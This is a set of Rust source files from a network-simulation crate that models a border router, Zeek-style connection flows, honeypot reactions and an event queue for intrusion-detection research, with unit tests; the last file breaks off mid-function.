    pub fn iter(&self) -> impl Iterator<Item = Ipv4Addr> + '_ {
        (0..self.size()).map(move |i| Ipv4Addr::from(self.base + i as u32))
    }

    /// Carve the `i`-th sub-block of length `sub_prefix` out of this block.
    ///
    /// Example: `141.142.0.0/16` → subblock(5, 24) = `141.142.5.0/24`.
    ///
    /// # Panics
    /// Panics if `sub_prefix < self.prefix` or the index is out of range.
    pub fn subblock(&self, i: u64, sub_prefix: u8) -> Cidr {
        assert!(
            sub_prefix >= self.prefix && sub_prefix <= 32,
            "invalid sub-prefix"
        );
        let count = 1u64 << (sub_prefix - self.prefix);
        assert!(
            i < count,
            "sub-block index {i} out of range ({count} sub-blocks)"
        );
        let step = 1u64 << (32 - sub_prefix);
        Cidr {
            base: self.base + (i * step) as u32,
            prefix: sub_prefix,
        }
    }

    /// Whether another block lies entirely inside this one.
    pub fn covers(&self, other: &Cidr) -> bool {
        other.prefix >= self.prefix && self.contains(other.base())
    }
}

impl fmt::Display for Cidr {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}/{}", self.base(), self.prefix)
    }
}

impl FromStr for Cidr {
    type Err = CidrParseError;
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        let (addr, prefix) = s.split_once('/').ok_or_else(|| CidrParseError(s.into()))?;
        let addr: Ipv4Addr = addr.parse().map_err(|_| CidrParseError(s.into()))?;
        let prefix: u8 = prefix.parse().map_err(|_| CidrParseError(s.into()))?;
        if prefix > 32 {
            return Err(CidrParseError(s.into()));
        }
        Ok(Cidr::new(addr, prefix))
    }
}

/// The production /16 used throughout the paper's figures (141.142.0.0/16).
pub fn ncsa_production() -> Cidr {
    Cidr::new(Ipv4Addr::new(141, 142, 0, 0), 16)
}

/// A secondary internal range that appears in the Fig. 1 DOT sample
/// (143.219.0.0/16).
pub fn ncsa_secondary() -> Cidr {
    Cidr::new(Ipv4Addr::new(143, 219, 0, 0), 16)
}

/// Anonymize an address the way the paper prints them: keep the first two
/// octets, mask the rest (`103.102.xxx.yyy` → `103.102.`).
pub fn anonymize(addr: Ipv4Addr) -> String {
    let o = addr.octets();
    format!("{}.{}.", o[0], o[1])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn slash16_has_65536_hosts() {
        assert_eq!(ncsa_production().size(), 65_536);
    }

    #[test]
    fn containment() {
        let net = ncsa_production();
        assert!(net.contains(Ipv4Addr::new(141, 142, 20, 5)));
        assert!(!net.contains(Ipv4Addr::new(141, 143, 0, 1)));
    }

    #[test]
    fn nth_and_iter_agree() {
        let block = Cidr::new(Ipv4Addr::new(10, 0, 0, 0), 28);
        let via_iter: Vec<_> = block.iter().collect();
        assert_eq!(via_iter.len(), 16);
        for (i, a) in via_iter.iter().enumerate() {
            assert_eq!(block.nth(i as u64), *a);
        }
    }

    #[test]
    fn subblock_carving() {
        let net = ncsa_production();
        let honeynet = net.subblock(77, 24);
        assert_eq!(honeynet.to_string(), "141.142.77.0/24");
        assert_eq!(honeynet.size(), 256);
        assert!(net.covers(&honeynet));
        assert!(!honeynet.covers(&net));
    }

    #[test]
    fn base_is_masked() {
        let c = Cidr::new(Ipv4Addr::new(192, 168, 5, 77), 24);
        assert_eq!(c.base(), Ipv4Addr::new(192, 168, 5, 0));
    }

    #[test]
    fn parse_roundtrip() {
        let c: Cidr = "141.142.0.0/16".parse().unwrap();
        assert_eq!(c, ncsa_production());
        assert!("141.142.0.0".parse::<Cidr>().is_err());
        assert!("x/16".parse::<Cidr>().is_err());
        assert!("10.0.0.0/33".parse::<Cidr>().is_err());
    }

    #[test]
    fn anonymization_matches_paper_format() {
        assert_eq!(anonymize(Ipv4Addr::new(103, 102, 8, 9)), "103.102.");
    }

    #[test]
    fn zero_prefix_covers_everything() {
        let all = Cidr::new(Ipv4Addr::new(0, 0, 0, 0), 0);
        assert!(all.contains(Ipv4Addr::new(255, 255, 255, 255)));
        assert_eq!(all.size(), 1u64 << 32);
    }
}
