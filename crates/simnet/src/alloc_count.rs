//! Counting-allocator support for allocation-contract tests and benches.
//!
//! Several harnesses in this workspace assert "this hot path performs N
//! heap allocations" (the factor-graph engine, the symbolize→filter→detect
//! pipeline, BENCH_4). They share this one implementation so the counting
//! semantics — every `alloc` *and* `realloc` increments, `dealloc` does
//! not, `Relaxed` ordering — cannot drift between them. Each binary or
//! test crate still has to install it itself:
//!
//! ```ignore
//! use simnet::alloc_count::{allocations, CountingAllocator};
//!
//! #[global_allocator]
//! static GLOBAL: CountingAllocator = CountingAllocator;
//!
//! let (allocs, result) = allocations(|| hot_path());
//! assert_eq!(allocs, 0);
//! ```
//!
//! The counter is process-global: measurements from parallel test threads
//! interleave, so serialize tests that measure (see the users for the
//! mutex pattern).

use std::alloc::{GlobalAlloc, Layout, System};
use std::sync::atomic::{AtomicU64, Ordering};

/// Counts every allocation and reallocation in the process (when
/// installed via `#[global_allocator]`); delegates to [`System`].
pub struct CountingAllocator;

static ALLOCATIONS: AtomicU64 = AtomicU64::new(0);

unsafe impl GlobalAlloc for CountingAllocator {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        ALLOCATIONS.fetch_add(1, Ordering::Relaxed);
        unsafe { System.alloc(layout) }
    }

    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
        unsafe { System.dealloc(ptr, layout) }
    }

    unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
        ALLOCATIONS.fetch_add(1, Ordering::Relaxed);
        unsafe { System.realloc(ptr, layout, new_size) }
    }
}

/// Allocations observed in the process so far (0 unless
/// [`CountingAllocator`] is the installed global allocator).
pub fn total() -> u64 {
    ALLOCATIONS.load(Ordering::Relaxed)
}

/// Run `f`, returning how many allocations it performed alongside its
/// result.
pub fn allocations<T>(f: impl FnOnce() -> T) -> (u64, T) {
    let before = total();
    let out = f();
    (total() - before, out)
}
