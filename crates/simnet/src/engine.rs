//! The simulation engine.
//!
//! Drives a time-ordered queue of [`Action`]s through the border router and
//! fan-outs each observed action to the registered [`ActionSink`]s (the
//! telemetry monitors). Sinks may schedule reactions — this is how honeypot
//! services respond to attacker commands.

use crate::action::Action;
use crate::event::EventQueue;
use crate::flow::Direction;
use crate::router::{BorderRouter, DropReason, ForwardAll, RouteFilter, RouterStats};
use crate::time::SimTime;
use crate::topology::Topology;

/// Context handed to sinks for every observed action.
#[derive(Debug)]
pub struct EventCtx<'a> {
    pub time: SimTime,
    pub direction: Direction,
    /// `Some` when the border router dropped the carrying flow.
    pub dropped: Option<&'a DropReason>,
    pub topo: &'a Topology,
}

impl EventCtx<'_> {
    /// Whether the action's flow was actually delivered end-to-end.
    pub fn delivered(&self) -> bool {
        self.dropped.is_none()
    }
}

/// Observer of simulation actions. Implemented by telemetry monitors and
/// reactive services (honeypots).
pub trait ActionSink {
    /// Called for every action in time order. The sink may schedule
    /// follow-up actions through `queue`.
    fn on_action(&mut self, ctx: &EventCtx<'_>, action: &Action, queue: &mut EventQueue<Action>);
}

/// The discrete-event simulation engine.
pub struct Engine {
    topo: Topology,
    queue: EventQueue<Action>,
    router: BorderRouter,
    actions_processed: u64,
}

impl Engine {
    /// Create an engine over a topology, starting the clock at `start`.
    pub fn new(topo: Topology, start: SimTime) -> Self {
        Engine {
            topo,
            queue: EventQueue::starting_at(start),
            router: BorderRouter::new(),
            actions_processed: 0,
        }
    }

    pub fn topology(&self) -> &Topology {
        &self.topo
    }

    pub fn topology_mut(&mut self) -> &mut Topology {
        &mut self.topo
    }

    pub fn now(&self) -> SimTime {
        self.queue.now()
    }

    /// Schedule an action at an absolute time.
    pub fn schedule(&mut self, at: SimTime, action: Action) {
        self.queue.schedule(at, action);
    }

    /// Number of actions still pending.
    pub fn pending(&self) -> usize {
        self.queue.len()
    }

    /// Router counters.
    pub fn router_stats(&self) -> RouterStats {
        self.router.stats()
    }

    /// Total actions processed so far.
    pub fn actions_processed(&self) -> u64 {
        self.actions_processed
    }

    /// Run to completion with no border filtering.
    pub fn run(&mut self, sinks: &mut [&mut dyn ActionSink]) {
        let mut filter = ForwardAll;
        self.run_filtered(&mut filter, sinks, None);
    }

    /// Run with a border filter, optionally stopping at a horizon.
    ///
    /// For every action: network-borne actions are routed (classified +
    /// filtered); host actions are delivered directly as `Internal`. All
    /// sinks then observe the action with the routing outcome, in
    /// registration order.
    pub fn run_filtered(
        &mut self,
        filter: &mut dyn RouteFilter,
        sinks: &mut [&mut dyn ActionSink],
        horizon: Option<SimTime>,
    ) {
        loop {
            match self.queue.peek_time() {
                None => break,
                Some(t) => {
                    if let Some(h) = horizon {
                        if t > h {
                            break;
                        }
                    }
                }
            }
            let ev = self.queue.pop().expect("peeked event vanished");
            self.actions_processed += 1;
            let (direction, dropped) = match ev.payload.flow() {
                Some(flow) => {
                    let outcome = self.router.route(&self.topo, filter, ev.time, flow);
                    (outcome.direction, outcome.dropped)
                }
                None => (Direction::Internal, None),
            };
            let ctx = EventCtx {
                time: ev.time,
                direction,
                dropped: dropped.as_ref(),
                topo: &self.topo,
            };
            for sink in sinks.iter_mut() {
                sink.on_action(&ctx, &ev.payload, &mut self.queue);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::action::{Action, ExecAction};
    use crate::flow::{Flow, FlowId};
    use crate::time::SimDuration;
    use crate::topology::{HostId, NcsaTopologyBuilder};

    /// Sink that records (time, kind, delivered) triples.
    #[derive(Default)]
    struct Recorder {
        seen: Vec<(SimTime, &'static str, bool)>,
    }

    impl ActionSink for Recorder {
        fn on_action(
            &mut self,
            ctx: &EventCtx<'_>,
            action: &Action,
            _queue: &mut EventQueue<Action>,
        ) {
            self.seen
                .push((ctx.time, action.kind_name(), ctx.delivered()));
        }
    }

    /// Reactive sink: on seeing a probe, schedules an exec 1s later.
    struct Reactor {
        fired: bool,
    }

    impl ActionSink for Reactor {
        fn on_action(
            &mut self,
            ctx: &EventCtx<'_>,
            action: &Action,
            queue: &mut EventQueue<Action>,
        ) {
            if !self.fired && matches!(action, Action::Flow(_)) {
                self.fired = true;
                queue.schedule(
                    ctx.time + SimDuration::from_secs(1),
                    Action::Exec(ExecAction {
                        host: HostId(0),
                        user: "root".into(),
                        pid: 1,
                        ppid: 0,
                        exe: "/bin/sh".into(),
                        cmdline: "reaction".into(),
                    }),
                );
            }
        }
    }

    #[test]
    fn actions_delivered_in_time_order() {
        let topo = NcsaTopologyBuilder::default().build();
        let mut eng = Engine::new(topo, SimTime::EPOCH);
        let probe = |id: u64, t: u64| {
            Action::Flow(Flow::probe(
                FlowId(id),
                SimTime::from_secs(t),
                "103.102.1.1".parse().unwrap(),
                "141.142.2.1".parse().unwrap(),
                22,
            ))
        };
        eng.schedule(SimTime::from_secs(30), probe(2, 30));
        eng.schedule(SimTime::from_secs(10), probe(1, 10));
        let mut rec = Recorder::default();
        eng.run(&mut [&mut rec]);
        assert_eq!(rec.seen.len(), 2);
        assert!(rec.seen[0].0 < rec.seen[1].0);
        assert_eq!(eng.actions_processed(), 2);
        assert_eq!(eng.router_stats().inbound, 2);
    }

    #[test]
    fn reactive_sink_schedules_follow_up() {
        let topo = NcsaTopologyBuilder::default().build();
        let mut eng = Engine::new(topo, SimTime::EPOCH);
        eng.schedule(
            SimTime::from_secs(5),
            Action::Flow(Flow::probe(
                FlowId(1),
                SimTime::from_secs(5),
                "111.200.1.1".parse().unwrap(),
                "141.142.11.1".parse().unwrap(),
                5432,
            )),
        );
        let mut rec = Recorder::default();
        let mut reactor = Reactor { fired: false };
        // Reactor registered first so its reaction is seen by the recorder.
        let mut filter = ForwardAll;
        let sinks: &mut [&mut dyn ActionSink] = &mut [&mut reactor, &mut rec];
        eng.run_filtered(&mut filter, sinks, None);
        assert_eq!(rec.seen.len(), 2);
        assert_eq!(rec.seen[1].1, "exec");
        assert_eq!(rec.seen[1].0, SimTime::from_secs(6));
    }

    #[test]
    fn horizon_stops_processing() {
        let topo = NcsaTopologyBuilder::default().build();
        let mut eng = Engine::new(topo, SimTime::EPOCH);
        for s in 1..=10u64 {
            eng.schedule(
                SimTime::from_secs(s),
                Action::Exec(ExecAction {
                    host: HostId(0),
                    user: "u".into(),
                    pid: s as u32,
                    ppid: 0,
                    exe: "/bin/true".into(),
                    cmdline: "noop".into(),
                }),
            );
        }
        let mut rec = Recorder::default();
        let mut filter = ForwardAll;
        eng.run_filtered(&mut filter, &mut [&mut rec], Some(SimTime::from_secs(4)));
        assert_eq!(rec.seen.len(), 4);
        assert_eq!(eng.pending(), 6);
    }

    #[test]
    fn host_actions_bypass_router() {
        let topo = NcsaTopologyBuilder::default().build();
        let mut eng = Engine::new(topo, SimTime::EPOCH);
        eng.schedule(
            SimTime::from_secs(1),
            Action::Exec(ExecAction {
                host: HostId(0),
                user: "u".into(),
                pid: 1,
                ppid: 0,
                exe: "/bin/true".into(),
                cmdline: "noop".into(),
            }),
        );
        let mut rec = Recorder::default();
        eng.run(&mut [&mut rec]);
        assert_eq!(eng.router_stats().total(), 0);
        assert!(rec.seen[0].2, "host action delivered");
    }
}
