//! Generic discrete-event queue.
//!
//! A stable min-heap keyed by `(SimTime, sequence)`: events scheduled for
//! the same instant pop in insertion order, which keeps every simulation
//! deterministic for a given seed. The queue is payload-generic so each
//! subsystem (flow engine, honeypot sessions, attacker scripts) can schedule
//! its own event type.

use std::cmp::Ordering;
use std::collections::BinaryHeap;

use crate::time::SimTime;

/// An event plus its scheduled time.
#[derive(Debug, Clone)]
pub struct Scheduled<T> {
    pub time: SimTime,
    pub seq: u64,
    pub payload: T,
}

impl<T> PartialEq for Scheduled<T> {
    fn eq(&self, other: &Self) -> bool {
        self.time == other.time && self.seq == other.seq
    }
}
impl<T> Eq for Scheduled<T> {}

impl<T> Ord for Scheduled<T> {
    fn cmp(&self, other: &Self) -> Ordering {
        // Reverse so BinaryHeap (max-heap) pops the earliest event first.
        other
            .time
            .cmp(&self.time)
            .then_with(|| other.seq.cmp(&self.seq))
    }
}
impl<T> PartialOrd for Scheduled<T> {
    fn partial_cmp(&self, other: &Self) -> Option<Ordering> {
        Some(self.cmp(other))
    }
}

/// A time-ordered event queue.
#[derive(Debug)]
pub struct EventQueue<T> {
    heap: BinaryHeap<Scheduled<T>>,
    next_seq: u64,
    now: SimTime,
}

impl<T> Default for EventQueue<T> {
    fn default() -> Self {
        Self::new()
    }
}

impl<T> EventQueue<T> {
    /// Empty queue with the clock at the simulation epoch.
    pub fn new() -> Self {
        EventQueue {
            heap: BinaryHeap::new(),
            next_seq: 0,
            now: SimTime::EPOCH,
        }
    }

    /// Empty queue with the clock at `start`.
    pub fn starting_at(start: SimTime) -> Self {
        EventQueue {
            heap: BinaryHeap::new(),
            next_seq: 0,
            now: start,
        }
    }

    /// The current simulation clock: the time of the last popped event, or
    /// the start time if nothing has been popped yet.
    pub fn now(&self) -> SimTime {
        self.now
    }

    /// Number of pending events.
    pub fn len(&self) -> usize {
        self.heap.len()
    }

    /// Whether the queue has no pending events.
    pub fn is_empty(&self) -> bool {
        self.heap.is_empty()
    }

    /// Schedule `payload` at absolute time `at`.
    ///
    /// Scheduling in the past is a logic error in a DES; this clamps to the
    /// current clock in release builds and panics in debug builds.
    pub fn schedule(&mut self, at: SimTime, payload: T) {
        debug_assert!(
            at >= self.now,
            "scheduling into the past: {at} < {}",
            self.now
        );
        let at = at.max(self.now);
        let seq = self.next_seq;
        self.next_seq += 1;
        self.heap.push(Scheduled {
            time: at,
            seq,
            payload,
        });
    }

    /// Schedule `payload` `delay` after the current clock.
    pub fn schedule_in(&mut self, delay: crate::time::SimDuration, payload: T) {
        let at = self.now + delay;
        self.schedule(at, payload);
    }

    /// Pop the earliest event, advancing the clock to its time.
    pub fn pop(&mut self) -> Option<Scheduled<T>> {
        let ev = self.heap.pop()?;
        self.now = ev.time;
        Some(ev)
    }

    /// Time of the next pending event without popping it.
    pub fn peek_time(&self) -> Option<SimTime> {
        self.heap.peek().map(|e| e.time)
    }

    /// Drain and process every event up to (and including) `horizon`,
    /// allowing handlers to schedule further events.
    pub fn run_until(&mut self, horizon: SimTime, mut handler: impl FnMut(&mut Self, SimTime, T)) {
        while let Some(t) = self.peek_time() {
            if t > horizon {
                break;
            }
            let ev = self.pop().expect("peeked event vanished");
            handler(self, ev.time, ev.payload);
        }
        self.now = self.now.max(horizon.min(self.now.max(horizon)));
    }

    /// Drain and process all pending events to exhaustion.
    pub fn run_to_completion(&mut self, mut handler: impl FnMut(&mut Self, SimTime, T)) {
        while let Some(ev) = self.pop() {
            handler(self, ev.time, ev.payload);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::time::SimDuration;

    #[test]
    fn pops_in_time_order() {
        let mut q = EventQueue::new();
        q.schedule(SimTime::from_secs(30), "c");
        q.schedule(SimTime::from_secs(10), "a");
        q.schedule(SimTime::from_secs(20), "b");
        let order: Vec<_> = std::iter::from_fn(|| q.pop().map(|e| e.payload)).collect();
        assert_eq!(order, vec!["a", "b", "c"]);
    }

    #[test]
    fn ties_pop_in_insertion_order() {
        let mut q = EventQueue::new();
        let t = SimTime::from_secs(5);
        for i in 0..100 {
            q.schedule(t, i);
        }
        let order: Vec<i32> = std::iter::from_fn(|| q.pop().map(|e| e.payload)).collect();
        assert_eq!(order, (0..100).collect::<Vec<_>>());
    }

    #[test]
    fn clock_advances_on_pop() {
        let mut q = EventQueue::new();
        q.schedule(SimTime::from_secs(42), ());
        assert_eq!(q.now(), SimTime::EPOCH);
        q.pop();
        assert_eq!(q.now(), SimTime::from_secs(42));
    }

    #[test]
    fn handlers_can_reschedule() {
        let mut q = EventQueue::new();
        q.schedule(SimTime::from_secs(1), 0u32);
        let mut seen = Vec::new();
        q.run_to_completion(|q, t, gen| {
            seen.push(gen);
            if gen < 4 {
                q.schedule(t + SimDuration::from_secs(1), gen + 1);
            }
        });
        assert_eq!(seen, vec![0, 1, 2, 3, 4]);
        assert_eq!(q.now(), SimTime::from_secs(5));
    }

    #[test]
    fn run_until_stops_at_horizon() {
        let mut q = EventQueue::new();
        for s in 1..=10 {
            q.schedule(SimTime::from_secs(s), s);
        }
        let mut seen = Vec::new();
        q.run_until(SimTime::from_secs(5), |_, _, s| seen.push(s));
        assert_eq!(seen, vec![1, 2, 3, 4, 5]);
        assert_eq!(q.len(), 5);
    }

    #[test]
    fn schedule_in_uses_current_clock() {
        let mut q = EventQueue::starting_at(SimTime::from_secs(100));
        q.schedule_in(SimDuration::from_secs(5), ());
        assert_eq!(q.peek_time(), Some(SimTime::from_secs(105)));
    }
}
