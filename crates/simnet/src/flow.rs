//! Network flows (connection records).
//!
//! A [`Flow`] is what the border router routes and what the Zeek-like
//! monitor summarizes into `conn.log` entries. Connection states follow
//! Zeek's `conn_state` vocabulary so downstream symbolization rules read
//! like real Zeek policy.

use std::fmt;
use std::net::Ipv4Addr;

use serde::{Deserialize, Serialize};

use crate::time::{SimDuration, SimTime};

/// Transport protocol.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Proto {
    Tcp,
    Udp,
    Icmp,
}

impl fmt::Display for Proto {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Proto::Tcp => write!(f, "tcp"),
            Proto::Udp => write!(f, "udp"),
            Proto::Icmp => write!(f, "icmp"),
        }
    }
}

/// Zeek-style connection state summary.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum ConnState {
    /// Connection attempt seen, no reply (classic scan signature).
    S0,
    /// Established and normally terminated.
    SF,
    /// Connection attempt rejected.
    Rej,
    /// Established, originator aborted.
    Rsto,
    /// Established, responder aborted.
    Rstr,
    /// Originator sent SYN followed by RST: port-scan fingerprint.
    Rstos0,
    /// Half-open: only originator traffic seen.
    Sh,
    /// No SYN seen, midstream traffic.
    Oth,
}

impl ConnState {
    /// Whether the connection actually exchanged application data.
    pub fn established(self) -> bool {
        matches!(self, ConnState::SF | ConnState::Rsto | ConnState::Rstr)
    }

    /// Whether this state is the signature of a failed probe.
    pub fn probe_like(self) -> bool {
        matches!(
            self,
            ConnState::S0 | ConnState::Rej | ConnState::Rstos0 | ConnState::Sh
        )
    }

    /// The Zeek `conn_state` string.
    pub fn as_str(self) -> &'static str {
        match self {
            ConnState::S0 => "S0",
            ConnState::SF => "SF",
            ConnState::Rej => "REJ",
            ConnState::Rsto => "RSTO",
            ConnState::Rstr => "RSTR",
            ConnState::Rstos0 => "RSTOS0",
            ConnState::Sh => "SH",
            ConnState::Oth => "OTH",
        }
    }
}

impl fmt::Display for ConnState {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// Application service carried by a flow, as a Zeek service tag would
/// label it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Service {
    Ssh,
    Http,
    Https,
    Postgres,
    Mysql,
    Dns,
    Ftp,
    Smtp,
    Irc,
    Unknown,
}

impl Service {
    /// Canonical port for the service (used by generators).
    pub fn default_port(self) -> u16 {
        match self {
            Service::Ssh => 22,
            Service::Http => 80,
            Service::Https => 443,
            Service::Postgres => 5432,
            Service::Mysql => 3306,
            Service::Dns => 53,
            Service::Ftp => 21,
            Service::Smtp => 25,
            Service::Irc => 6667,
            Service::Unknown => 0,
        }
    }

    /// Classify a destination port into a service tag.
    pub fn from_port(port: u16) -> Service {
        match port {
            22 => Service::Ssh,
            80 | 8080 => Service::Http,
            443 => Service::Https,
            5432 => Service::Postgres,
            3306 => Service::Mysql,
            53 => Service::Dns,
            21 => Service::Ftp,
            25 => Service::Smtp,
            6667 => Service::Irc,
            _ => Service::Unknown,
        }
    }

    pub fn as_str(self) -> &'static str {
        match self {
            Service::Ssh => "ssh",
            Service::Http => "http",
            Service::Https => "https",
            Service::Postgres => "postgresql",
            Service::Mysql => "mysql",
            Service::Dns => "dns",
            Service::Ftp => "ftp",
            Service::Smtp => "smtp",
            Service::Irc => "irc",
            Service::Unknown => "-",
        }
    }
}

impl fmt::Display for Service {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// Unique flow identifier (monotonic within an engine run).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub struct FlowId(pub u64);

impl fmt::Display for FlowId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        // Zeek-like connection uid: C + base36-ish rendering.
        write!(f, "C{:x}", self.0)
    }
}

/// A network flow as observed at the border.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Flow {
    pub id: FlowId,
    pub start: SimTime,
    pub duration: SimDuration,
    pub src: Ipv4Addr,
    pub src_port: u16,
    pub dst: Ipv4Addr,
    pub dst_port: u16,
    pub proto: Proto,
    pub state: ConnState,
    pub service: Service,
    pub orig_bytes: u64,
    pub resp_bytes: u64,
}

impl Flow {
    /// A successful TCP connection with the given byte counts.
    #[allow(clippy::too_many_arguments)]
    pub fn established(
        id: FlowId,
        start: SimTime,
        duration: SimDuration,
        src: Ipv4Addr,
        src_port: u16,
        dst: Ipv4Addr,
        dst_port: u16,
        orig_bytes: u64,
        resp_bytes: u64,
    ) -> Flow {
        Flow {
            id,
            start,
            duration,
            src,
            src_port,
            dst,
            dst_port,
            proto: Proto::Tcp,
            state: ConnState::SF,
            service: Service::from_port(dst_port),
            orig_bytes,
            resp_bytes,
        }
    }

    /// A failed probe (scan) against `dst:dst_port`.
    pub fn probe(id: FlowId, start: SimTime, src: Ipv4Addr, dst: Ipv4Addr, dst_port: u16) -> Flow {
        Flow {
            id,
            start,
            duration: SimDuration::ZERO,
            src,
            src_port: 40_000,
            dst,
            dst_port,
            proto: Proto::Tcp,
            state: ConnState::S0,
            service: Service::from_port(dst_port),
            orig_bytes: 0,
            resp_bytes: 0,
        }
    }

    /// Total bytes both directions.
    pub fn total_bytes(&self) -> u64 {
        self.orig_bytes + self.resp_bytes
    }

    /// The instant the flow ended.
    pub fn end(&self) -> SimTime {
        self.start + self.duration
    }
}

/// Direction of a flow relative to the protected network.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Direction {
    /// External source to internal destination.
    Inbound,
    /// Internal source to external destination.
    Outbound,
    /// Both endpoints internal (lateral).
    Internal,
    /// Both endpoints external (transit; not normally seen).
    Transit,
}

impl fmt::Display for Direction {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            Direction::Inbound => "inbound",
            Direction::Outbound => "outbound",
            Direction::Internal => "internal",
            Direction::Transit => "transit",
        };
        f.write_str(s)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn service_port_mapping_roundtrip() {
        for s in [Service::Ssh, Service::Http, Service::Postgres, Service::Irc] {
            assert_eq!(Service::from_port(s.default_port()), s);
        }
        assert_eq!(Service::from_port(31_337), Service::Unknown);
    }

    #[test]
    fn probe_flows_look_like_scans() {
        let f = Flow::probe(
            FlowId(1),
            SimTime::from_secs(0),
            "103.102.8.9".parse().unwrap(),
            "141.142.5.10".parse().unwrap(),
            5432,
        );
        assert!(f.state.probe_like());
        assert!(!f.state.established());
        assert_eq!(f.service, Service::Postgres);
        assert_eq!(f.total_bytes(), 0);
    }

    #[test]
    fn established_flow_end_time() {
        let f = Flow::established(
            FlowId(2),
            SimTime::from_secs(100),
            SimDuration::from_secs(30),
            "141.142.2.1".parse().unwrap(),
            50_000,
            "141.142.11.1".parse().unwrap(),
            5432,
            1_000,
            20_000,
        );
        assert_eq!(f.end(), SimTime::from_secs(130));
        assert!(f.state.established());
        assert_eq!(f.total_bytes(), 21_000);
    }

    #[test]
    fn conn_state_strings_match_zeek() {
        assert_eq!(ConnState::S0.to_string(), "S0");
        assert_eq!(ConnState::Rej.to_string(), "REJ");
        assert_eq!(ConnState::Rstos0.to_string(), "RSTOS0");
    }

    #[test]
    fn flow_uid_renders_zeek_like() {
        assert_eq!(FlowId(255).to_string(), "Cff");
    }
}
