//! String interning for the record/alert hot path.
//!
//! The symbolize → filter → detect pipeline used to round-trip heap
//! `String`s on every record: user names, hostnames, command lines, URIs.
//! At production-scale replay volume (millions of records) the allocator
//! becomes the bottleneck, not the detection math. This module provides the
//! shared interning layer every record type builds on:
//!
//! - [`Sym`] — a `Copy` 32-bit handle to an interned string. Comparing,
//!   hashing and moving a `Sym` never touches the heap; resolving one
//!   (`as_str`, `Deref<Target = str>`) returns a `&'static str` backed by
//!   the process-wide table.
//! - [`SymTable`] — the append-only table itself. The process-wide
//!   instance ([`global`]) is what `Sym::from`/[`intern`] use; its contents
//!   can be snapshotted for reports ([`SymTable::snapshot`]).
//!
//! The symbol universe of a run is bounded (user population, host names,
//! command palettes, alert symbols), so entries are leaked into `'static`
//! storage once and never freed: resolution is lock-cheap (one uncontended
//! read lock) and the returned `&'static str` can be held across threads.
//!
//! Interning cost is paid once per *distinct* string — generators pre-
//! intern their palettes, so the per-record hot path only copies `u32`s.

use std::collections::HashMap;
use std::fmt;
use std::hash::BuildHasherDefault;
use std::ops::Deref;
use std::sync::{OnceLock, RwLock};

use crate::rng::FxHasher;

/// A `Copy` handle to an interned string in the process-wide [`SymTable`].
///
/// `Sym` is the string type of every record field on the pipeline hot path.
/// Equality and hashing operate on the 32-bit id (two `Sym`s from the same
/// table are equal iff their strings are equal); ordering resolves and
/// compares the underlying strings so sort-based reports keep their
/// pre-interning order.
#[derive(Clone, Copy, PartialEq, Eq, Hash, serde::Serialize, serde::Deserialize)]
pub struct Sym(u32);

impl Sym {
    /// The interned empty string.
    pub const EMPTY: Sym = Sym(0);

    /// Intern `s` in the global table (idempotent).
    #[inline]
    pub fn new(s: &str) -> Sym {
        global().intern(s)
    }

    /// The interned string. `&'static`: entries live for the process.
    #[inline]
    pub fn as_str(self) -> &'static str {
        global().resolve(self)
    }

    /// Raw table id (stable within a process; assigned in intern order).
    #[inline]
    pub fn id(self) -> u32 {
        self.0
    }

    /// Rebuild a handle from a raw id previously obtained via [`Sym::id`]
    /// in this process. Resolving a fabricated id panics.
    #[inline]
    pub fn from_id(id: u32) -> Sym {
        Sym(id)
    }

    /// Whether this symbol is the empty string.
    #[inline]
    pub fn is_empty(self) -> bool {
        self.0 == 0
    }
}

impl Default for Sym {
    fn default() -> Self {
        Sym::EMPTY
    }
}

impl Deref for Sym {
    type Target = str;

    #[inline]
    fn deref(&self) -> &'static str {
        self.as_str()
    }
}

impl AsRef<str> for Sym {
    fn as_ref(&self) -> &str {
        self.as_str()
    }
}

// NOTE: deliberately NO `Borrow<str>` impl. `Sym`'s `Hash` is over the
// 32-bit id (the hot-path property: hashing never resolves the table),
// while `str` hashes its bytes — the `Borrow` contract requires the two
// to agree, and implementing it would make `HashMap<Sym, _>::get::<str>`
// compile and then silently miss every key. The consistency proptest in
// `tests/intern_consistency.rs` pins the invariants that *do* hold
// (`Eq`/`Ord`/hash agree across `Sym`, `&str` and `String` views).

impl From<&str> for Sym {
    #[inline]
    fn from(s: &str) -> Sym {
        Sym::new(s)
    }
}

impl From<&String> for Sym {
    #[inline]
    fn from(s: &String) -> Sym {
        Sym::new(s)
    }
}

impl From<String> for Sym {
    #[inline]
    fn from(s: String) -> Sym {
        Sym::new(&s)
    }
}

impl PartialEq<str> for Sym {
    fn eq(&self, other: &str) -> bool {
        self.as_str() == other
    }
}

impl PartialEq<&str> for Sym {
    fn eq(&self, other: &&str) -> bool {
        self.as_str() == *other
    }
}

impl PartialEq<String> for Sym {
    fn eq(&self, other: &String) -> bool {
        self.as_str() == other.as_str()
    }
}

impl PartialEq<Sym> for str {
    fn eq(&self, other: &Sym) -> bool {
